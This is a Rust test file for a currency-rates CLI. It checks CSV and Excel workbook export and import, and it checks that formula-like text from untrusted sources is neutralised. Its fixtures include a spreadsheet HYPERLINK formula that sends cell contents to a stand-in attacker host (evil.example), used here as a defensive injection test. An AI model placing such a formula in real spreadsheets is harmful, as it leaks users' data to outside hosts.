//! Tables that leave the program: CSV for programs and spreadsheets, workbooks, and their way back in.

use crate::command::{AFTER_ARCHIVE, Place, read};
use std::io::Read as _;
use std::path::Path;

/// Titles that a spreadsheet would calculate, and ones that only look like these.
const TITLES: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"жми\")",
    "+7 (495) 000-00-00",
    "-20 градусов; «мороз»",
    "@rates сообщает",
    "'=1+1",
    "'tis a rate",
    "Курс, каким он был",
];

fn place_with_titles() -> Place {
    let place = Place::new(AFTER_ARCHIVE);
    let line = |(number, title): (usize, &&str)| {
        serde_json::json!({
            "published": format!("2024-05-20T1{number}:00:00+03:00"),
            "title": title,
            "url": format!("https://a.example/{number}"),
            "source": "a.example",
        })
        .to_string()
    };
    let lines: Vec<String> = TITLES.iter().enumerate().map(line).collect();
    place.write("news.jsonl", &lines.join("\n"));
    place.run(&["news", "add", "news.jsonl"]).code(0);
    place
}

/// The parts of a workbook, by name.
fn part(file: &Path, name: &str) -> String {
    let mut archive = zip::ZipArchive::new(std::fs::File::open(file).unwrap()).unwrap();
    let mut text = String::new();
    archive
        .by_name(name)
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    text
}

#[test]
fn csv_for_a_russian_excel_is_what_it_saves_itself() {
    let history = [
        "history",
        "USD",
        "--from",
        "2024-05-21",
        "--to",
        "2024-05-22",
    ];
    read(&[&history[..], &["--csv-for", "excel-ru"]].concat())
        .code(0)
        .out_is(
            "\u{feff}currency;date;nominal;value;change;change_pct;quote\n\
             USD;21.05.2024;1;90,6537;-0,3336;-0,3666;RUB\n\
             USD;22.05.2024;1;90,4082;-0,2455;-0,2708;RUB",
        );
    read(&[&history[..], &["--format", "csv", "--csv-for", "excel"]].concat())
        .code(0)
        .out_is(
            "\u{feff}currency,date,nominal,value,change,change_pct,quote\n\
             USD,2024-05-21,1,90.6537,-0.3336,-0.3666,RUB\n\
             USD,2024-05-22,1,90.4082,-0.2455,-0.2708,RUB",
        );
}

#[test]
fn every_command_with_csv_knows_the_russian_excel() {
    for (command, line) in [
        (
            &["show", "USD", "--on", "2024-05-21"][..],
            "21.05.2024;USD;1;90,6537;-0,3336;-0,3666;21.05.2024;RUB",
        ),
        (&["currencies"], "USD;840;Доллар США;US dollar;"),
        (
            &["db", "export"],
            "21.05.2024;USD;1;90,6537;cbr;1992-07-01..2026-08-21;RUB",
        ),
        (
            &[
                "history", "USD", "--from", "2024-05", "--to", "2024-05", "--agg", "last",
            ],
            "USD;2024-05-01..2024-05-31;1;89,7869;",
        ),
    ] {
        read(&[command, &["--csv-for", "excel-ru"]].concat())
            .code(0)
            .out_has(line);
    }
}

/// Only CSV has a reader; a flag that changes nothing would be taken for one that worked.
#[test]
fn a_reader_of_csv_beside_another_format_is_refused() {
    for command in [
        &["show", "USD", "--format", "json"][..],
        &["history", "USD", "--format", "xlsx"],
        &["history", "USD", "-o", "usd.json"],
        &["currencies", "--format", "table"],
        &["news", "list", "--format", "json"],
    ] {
        read(&[command, &["--csv-for", "excel-ru", "--lang", "en"]].concat())
            .code(2)
            .no_out()
            .err_has("for CSV alone");
    }
    read(&["--csv-for", "excel-ru", "history", "USD"])
        .code(2)
        .err_has("--csv-for");
}

#[test]
fn a_file_has_the_format_of_its_name() {
    let place = Place::new(AFTER_ARCHIVE);
    let history = |rest: &[&str]| {
        let days = [
            "history",
            "USD",
            "--from",
            "2024-05-21",
            "--to",
            "2024-05-21",
        ];
        place.run(&[&days[..], &["--lang", "en"], rest].concat())
    };
    history(&["-o", "usd.csv"]).code(0).out_is("usd.csv");
    let csv = std::fs::read_to_string(place.path("usd.csv")).unwrap();
    assert!(csv.contains("\nUSD,2024-05-21,1,90.6537,"), "{csv}");

    history(&["-o", "usd.JSON"]).code(0);
    let json = std::fs::read_to_string(place.path("usd.JSON")).unwrap();
    assert!(json.starts_with("{\"series\""), "{json}");

    history(&["-o", "usd.dat"]).code(2).err_has("add --format");
    history(&["-o", "usd.csv", "--format", "json"])
        .code(2)
        .err_has("the file's name ends in .csv");
    history(&["-o", "usd.dat", "--csv-for", "excel-ru"]).code(0);
    history(&["-o", "-", "--format", "csv"])
        .code(0)
        .out_has("USD,2024-05-21,1,90.6537");
}

#[test]
fn a_workbook_has_numbers_dates_and_a_heading_that_stays() {
    let place = Place::new(AFTER_ARCHIVE);
    let days = [
        "history",
        "USD",
        "JPY",
        "--from",
        "2024-05-21",
        "--to",
        "2024-05-22",
    ];
    place
        .run(&[&days[..], &["-o", "rates.xlsx", "--lang", "ru"]].concat())
        .code(0)
        .out_is("rates.xlsx");
    let file = place.path("rates.xlsx");
    let sheet = part(&file, "xl/worksheets/sheet1.xml");
    for expected in [
        "<v>90.6537</v>",
        "<v>-0.3336</v>",
        // The day, counted from 1899-12-30.
        "<v>45433</v>",
        "state=\"frozen\"",
    ] {
        assert!(sheet.contains(expected), "no {expected} in {sheet}");
    }
    let styles = part(&file, "xl/styles.xml");
    for expected in ["formatCode=\"0.0000\"", "formatCode=\"dd.mm.yyyy\"", "<b/>"] {
        assert!(styles.contains(expected), "no {expected} in {styles}");
    }

    // The same question at the same time gives the same bytes.
    let first = std::fs::read(&file).unwrap();
    place
        .run(&[&days[..], &["-o", "again.xlsx", "--lang", "ru"]].concat())
        .code(0);
    assert!(first == std::fs::read(place.path("again.xlsx")).unwrap());
    let made = part(&file, "docProps/core.xml");
    assert!(made.contains(AFTER_ARCHIVE), "{made}");
}

#[test]
fn a_strangers_title_is_text_in_a_workbook() {
    let place = place_with_titles();
    place
        .run(&["news", "list", "--limit", "0", "-o", "news.xlsx"])
        .code(0);
    let file = place.path("news.xlsx");
    let sheet = part(&file, "xl/worksheets/sheet1.xml");
    assert!(
        !sheet.contains("<f>") && !sheet.contains("hyperlink"),
        "{sheet}"
    );
    let texts = part(&file, "xl/sharedStrings.xml");
    assert!(texts.contains("<t>=HYPERLINK("), "{texts}");
    // Editing the cell does not make it one either.
    assert!(part(&file, "xl/styles.xml").contains("quotePrefix=\"1\""));
    // 2024-05-20 10:00 in Moscow.
    assert!(sheet.contains("<v>45432.41666666666"), "{sheet}");
}

/// A title comes back as it was, whatever form it went out in.
#[test]
fn titles_that_look_like_formulas_go_out_and_come_back() {
    let place = place_with_titles();
    let titles = |place: &Place| {
        let listed = place.run(&["news", "list", "--limit", "0", "--format", "json"]);
        let json: serde_json::Value = serde_json::from_str(&listed.stdout).unwrap();
        let headlines = json["headlines"].as_array().unwrap().clone();
        let one = |headline: &serde_json::Value| {
            ["title", "url", "source", "date"].map(|key| headline[key].to_string())
        };
        headlines.iter().map(one).collect::<Vec<_>>()
    };
    let before = titles(&place);
    assert_eq!(before.len(), TITLES.len());

    for reader in ["programs", "excel", "excel-ru"] {
        let listed = place.run(&["news", "list", "--limit", "0", "--csv-for", reader]);
        listed.code(0).out_has("'=HYPERLINK(").out_has("''=1+1");
        let other = Place::new(AFTER_ARCHIVE);
        other.write("back.csv", &listed.stdout);
        other.run(&["news", "add", "back.csv"]).code(0);
        assert_eq!(titles(&other), before, "{reader}");
    }
}

#[test]
fn a_workbook_is_not_for_a_terminal() {
    let mut command = std::process::Command::new("script");
    let place = Place::new(AFTER_ARCHIVE);
    let rates = env!("CARGO_BIN_EXE_rates");
    command
        .args([
            "-qec",
            &format!("{rates} history USD --format xlsx --lang en"),
            "/dev/null",
        ])
        .env("HOME", place.path(""))
        .env("XDG_DATA_HOME", place.path("data"))
        .env("RATES_NOW", AFTER_ARCHIVE)
        .stdin(std::process::Stdio::null());
    let output = command.output().unwrap();
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(said.contains("name a file with -o FILE.xlsx"), "{said}");
    assert_eq!(output.status.code(), Some(2), "{said}");
}

const INVOICES: &str = "Счёт;Дата;Сумма;Валюта;Примечание;Скидка;Код\n\
    1;20.05.2024;1250,50;USD;=1+1;-5,5;007\n\
    2;21.05.2024;-33,52;EUR;'@SUM(1);-1 234,56;12.05\n\
    3;32.05.2024;1;USD;+7 495;0;x\n";

/// The user's own columns stay, their strangers' texts do no harm, and their figures are figures.
#[test]
fn a_converted_table_of_a_russian_excel_goes_back_into_it() {
    let place = Place::new(AFTER_ARCHIVE);
    place.write("in.csv", INVOICES);
    let convert = ["convert", "--csv", "in.csv", "--lang", "ru"];
    place
        .run(&[&convert[..], &["--csv-for", "excel-ru"]].concat())
        .code(1)
        .out_has("1;20.05.2024;1250,50;USD;'=1+1;-5,5;007;113779,6187;18.05.2024;1;90,9873;;;;;USD;RUB;;\n")
        .out_has("2;21.05.2024;-33,52;EUR;'@SUM(1);-1234,56;12,05;-3304,5424;")
        .out_has("3;32.05.2024;1;USD;'+7 495;0;x;;;;;;;;");
    place.run(&convert).code(1).out_has(
        "2,21.05.2024,\"-33,52\",EUR,'@SUM(1),\"-1 234,56\",12.05,-3304.5424,2024-05-21,1,98.5842",
    );

    place
        .run(&[&convert[..], &["-o", "out.xlsx"]].concat())
        .code(1)
        .out_is("out.xlsx");
    let file = place.path("out.xlsx");
    let sheet = part(&file, "xl/worksheets/sheet1.xml");
    for number in [
        "1250.5",
        "-33.52",
        "-5.5",
        "-1234.56",
        "12.05",
        "45432",
        "113779.6187",
        "90.9873",
    ] {
        let cell = format!("<v>{number}</v>");
        assert!(sheet.contains(&cell), "no {cell} in {sheet}");
    }
    let texts = part(&file, "xl/sharedStrings.xml");
    for text in ["=1+1", "@SUM(1)", "007", "+7 495"] {
        assert!(
            texts.contains(&format!("<t>{text}</t>")),
            "no {text} in {texts}"
        );
    }
    assert!(!sheet.contains("<f>"), "{sheet}");
}

#[test]
fn figures_longer_than_a_double_stay_whole_in_a_workbook() {
    let place = Place::new(AFTER_ARCHIVE);
    let typed = [
        "convert",
        "1234567890.12",
        "EUR",
        "USD",
        "--on",
        "2024-05-21",
        "--digits",
        "12",
        "--lang",
        "en",
        "-o",
        "long.xlsx",
    ];
    place
        .run(&typed)
        .code(0)
        .err_has("1 figure of more than 15 digits written as text");
    let texts = part(&place.path("long.xlsx"), "xl/sharedStrings.xml");
    assert!(texts.contains("<t>1342569446.069692731791</t>"), "{texts}");
}

/// What was written for a Russian Excel is read back to the last figure and day.
#[test]
fn an_export_for_a_russian_excel_can_be_imported() {
    let place = Place::new(AFTER_ARCHIVE);
    let exported = place.run(&["db", "export", "--csv-for", "excel-ru"]);
    place.write("all.csv", &exported.stdout);
    let plain = place.run(&["db", "export"]).stdout;

    place
        .run(&["--db", "new.db", "--lang", "en", "db", "import", "all.csv"])
        .code(0);
    let again = place.run(&["--db", "new.db", "db", "export"]).stdout;
    assert_eq!(plain.lines().count(), again.lines().count());
    assert!(plain == again, "another export");
}

/// `1.250` is 1250 in any column in which points part thousands; where no column shows it, it stays as it is.
#[test]
fn a_column_of_the_users_own_is_read_by_its_decimal_mark_or_stays_a_text() {
    let place = Place::new(AFTER_ARCHIVE);
    place.write(
        "t.csv",
        "date;amount;from;bal;weight\n21.05.2024;1.250;USD;1.250;1.250\n\
         21.05.2024;1.000.100,50;USD;1.000.000,00;2.125\n",
    );
    let convert = ["convert", "--csv", "t.csv"];
    place
        .run(&[&convert[..], &["--csv-for", "excel-ru"]].concat())
        .code(0)
        .out_has("21.05.2024;1250;USD;1250;1.250;113317,1250;")
        .out_has("21.05.2024;1000100,50;USD;1000000,00;2.125;");

    place
        .run(&[&convert[..], &["-o", "t.xlsx"]].concat())
        .code(0);
    let sheet = part(&place.path("t.xlsx"), "xl/worksheets/sheet1.xml");
    for cell in [
        "<c r=\"B2\" s=\"3\"><v>1250</v></c>",
        "<c r=\"D2\" s=\"3\"><v>1250</v></c>",
    ] {
        assert!(sheet.contains(cell), "{sheet}");
    }
    assert!(sheet.contains("<c r=\"E2\" t=\"s\">"), "{sheet}");
}

#[test]
fn a_name_that_promises_a_workbook_is_no_csv_and_a_folder_is_no_file() {
    let place = Place::new(AFTER_ARCHIVE);
    let history = [
        "--lang", "en", "history", "USD", "--from", "2024-05", "--to", "2024-05",
    ];
    place
        .run(&[&history[..], &["--csv-for", "excel", "-o", "x.xlsx"]].concat())
        .code(2)
        .err_has("--csv-for: the file's name ends in .xlsx, and this option is for CSV alone");
    std::fs::create_dir(place.path("folder")).unwrap();
    place
        .run(&[&history[..], &["-o", "folder"]].concat())
        .code(2)
        .err_has("--output: it is a folder; give the name of a file in it");
}

/// Programs get the fields of the file; a signed figure and a dash are no formulas.
#[test]
fn fields_of_the_users_own_are_as_in_the_file() {
    let place = Place::new(AFTER_ARCHIVE);
    place.write(
        "t.csv",
        "date;amount;from;delta;note\n21.05.2024; 100,50 ;USD;+100,00; two  blanks \n\
         21.05.2024;1;USD;-;\"x\n=1+1\ny\"\n21.05.2024;1;USD;+7 495 000;=1\n",
    );
    let convert = ["convert", "--csv", "t.csv"];
    place
        .run(&convert)
        .code(0)
        .out_has("21.05.2024,\" 100,50 \",USD,\"+100,00\", two  blanks ,9110.6969,")
        .out_has("21.05.2024,1,USD,-,\"x\n'=1+1\ny\",90.6537,")
        .out_has("21.05.2024,1,USD,'+7 495 000,'=1,90.6537,");
    place
        .run(&[&convert[..], &["--csv-for", "excel"]].concat())
        .code(0)
        .out_has("2024-05-21,100.50,USD,100.00, two  blanks ,9110.6969,");
}
